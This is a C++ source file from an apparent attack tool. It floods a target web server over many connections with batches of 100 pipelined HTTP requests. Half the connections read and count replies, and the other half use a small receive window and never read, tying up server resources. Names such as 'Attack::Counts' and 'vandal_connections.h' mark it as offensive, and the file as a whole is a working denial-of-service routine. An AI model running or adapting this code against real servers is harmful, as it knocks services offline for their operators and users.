#include "cli/pipelined_reads.h"

#include <poll.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <memory>
#include <string_view>
#include <utility>
#include <vector>

#include "cli/vandal_connections.h"

namespace urna::cli {
namespace {

using Counts = Attack::Counts;

constexpr std::chrono::milliseconds kPause(5);
constexpr std::size_t kSentAtOnce = 100;
constexpr std::string_view kAnswerBegins = "HTTP/1.1 200";

class Pipeline {
 public:
  Pipeline(ledger::FileDescriptor fd, const std::string& block, std::size_t request_size,
           bool reads)
      : fd_(std::move(fd)), block_(block), request_size_(request_size), reads_(reads) {}

  // False once the connection is over.
  bool Step(Counts& counts) {
    if (!Receive()) return false;
    while (true) {
      const std::string_view left = std::string_view(block_).substr(sent_ % block_.size());
      const ssize_t sent = send(fd_.get(), left.data(), left.size(), MSG_NOSIGNAL);
      if (sent < 0) return errno == EAGAIN || errno == ENOTCONN;
      const std::size_t before = requests();
      sent_ += static_cast<std::size_t>(sent);
      counts.attempts += requests() - before;
    }
  }

  std::size_t unanswered() const { return requests() - std::min(requests(), answers_); }

 private:
  std::size_t requests() const { return sent_ / request_size_; }

  bool Receive() {
    if (!reads_) {
      pollfd state{.fd = fd_.get(), .events = POLLRDHUP, .revents = 0};
      return poll(&state, 1, 0) == 0;
    }
    std::array<char, 65'536> buffer;
    ssize_t got = 0;
    while ((got = recv(fd_.get(), buffer.data(), buffer.size(), 0)) > 0) {
      // An answer that begins in one piece and goes on in the next is seen once.
      std::string text = std::move(tail_);
      text.append(buffer.data(), static_cast<std::size_t>(got));
      for (std::size_t at = 0; (at = text.find(kAnswerBegins, at)) != text.npos; ++at) ++answers_;
      tail_ = text.substr(text.size() - std::min(text.size(), kAnswerBegins.size() - 1));
    }
    return got < 0 && (errno == EAGAIN || errno == ENOTCONN);
  }

  const ledger::FileDescriptor fd_;
  const std::string& block_;
  const std::size_t request_size_;
  const bool reads_;
  std::size_t sent_ = 0;
  std::size_t answers_ = 0;
  std::string tail_;
};

}  // namespace

void PipelineReads(const std::string& address, const std::string& request, int connections,
                   Counts& counts) {
  const sockaddr_storage to = AddressOf(address);
  std::string block;
  for (std::size_t i = 0; i < kSentAtOnce; ++i) block += request;
  std::vector<std::unique_ptr<Pipeline>> pipelines(static_cast<std::size_t>(connections));
  while (!counts.ending) {
    for (std::size_t i = 0; i < pipelines.size(); ++i) {
      const bool reads = i % 2 == 0;
      if (pipelines[i] == nullptr) {
        ledger::FileDescriptor fd = BeginConnecting(to, reads ? Window::kUsual : Window::kSmall);
        if (fd.get() < 0) continue;
        pipelines[i] = std::make_unique<Pipeline>(std::move(fd), block, request.size(), reads);
      }
      if (pipelines[i]->Step(counts)) continue;
      counts.rebuffed += pipelines[i]->unanswered();
      pipelines[i].reset();
    }
    std::this_thread::sleep_for(kPause);
  }
}

}  // namespace urna::cli
